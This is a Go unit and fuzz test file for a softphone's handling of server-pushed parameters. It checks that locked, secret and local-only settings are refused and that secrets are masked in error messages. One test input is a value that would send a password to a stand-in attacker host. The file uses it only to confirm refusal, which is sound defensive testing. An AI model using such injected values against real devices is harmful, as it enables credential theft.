package phone

import (
	"strings"
	"testing"

	"softphone/phone/params"
)

// TestSetMParam: each pushed pair is set at the runtime rank, or refused with an error naming
// the parameter (secret values masked).
func TestSetMParam(t *testing.T) {
	ps := params.Standard()
	if err := ps.Set("transfertype", "blind", params.Provisioning); err != nil {
		t.Fatal(err)
	}
	if err := ps.Lock("transfertype"); err != nil {
		t.Fatal(err)
	}
	p := New(ps)
	tests := []struct {
		pair    string
		wantErr string // "" for success
		name    string // checked on success: its value is want
		want    string
	}{
		{pair: "ringtimeout=33", name: "ringtimeout", want: "33"},
		{pair: " Loglevel = 5 ", name: "loglevel", want: "5"},
		{pair: "ringtimeout", wantErr: `"ringtimeout" is not name=value`},
		{pair: "=5", wantErr: "not name=value"},
		{pair: "nosuchparam=1", wantErr: `unknown parameter "nosuchparam"`},
		{pair: "ringtimeout=forever", wantErr: "ringtimeout"},
		{pair: "transfertype=attended", wantErr: `"transfertype"="attended" refused: locked`},
		{pair: "apitoken=stolen", wantErr: `"apitoken"="****" refused: a server may not set it`},
		{pair: "creditrequest=*http://evil.example/?p=PASSWORD", wantErr: `"creditrequest"`},
		{pair: "audiooutput=file:/tmp/x.wav", wantErr: "a server may not set it"},
	}
	for _, tc := range tests {
		err := p.setMParam(tc.pair)
		switch {
		case tc.wantErr == "" && err != nil:
			t.Errorf("%q: %v", tc.pair, err)
		case tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)):
			t.Errorf("%q: error %v, want one with %q", tc.pair, err, tc.wantErr)
		case tc.wantErr == "" && ps.Get(tc.name) != tc.want:
			t.Errorf("%q: %s = %q, want %q", tc.pair, tc.name, ps.Get(tc.name), tc.want)
		}
		if err != nil && strings.Contains(err.Error(), "stolen") {
			t.Errorf("%q: error %v shows the secret", tc.pair, err)
		}
	}
	if ps.Get("transfertype") != "blind" {
		t.Errorf("locked transfertype changed to %q", ps.Get("transfertype"))
	}
}

// FuzzSetMParam: any pushed pair is set or refused with an error; nothing panics, and a local
// parameter never changes.
func FuzzSetMParam(f *testing.F) {
	for _, s := range []string{"loglevel=5", "aec=0", "apitoken=x", "=", ";;", "ringtimeout=DEF", "a=b=c"} {
		f.Add(s)
	}
	p := New(params.Standard())
	token := p.params.Get("apitoken")
	f.Fuzz(func(t *testing.T, pair string) {
		_ = p.setMParam(pair)
		if p.params.Get("apitoken") != token {
			t.Fatalf("%q changed apitoken", pair)
		}
	})
}
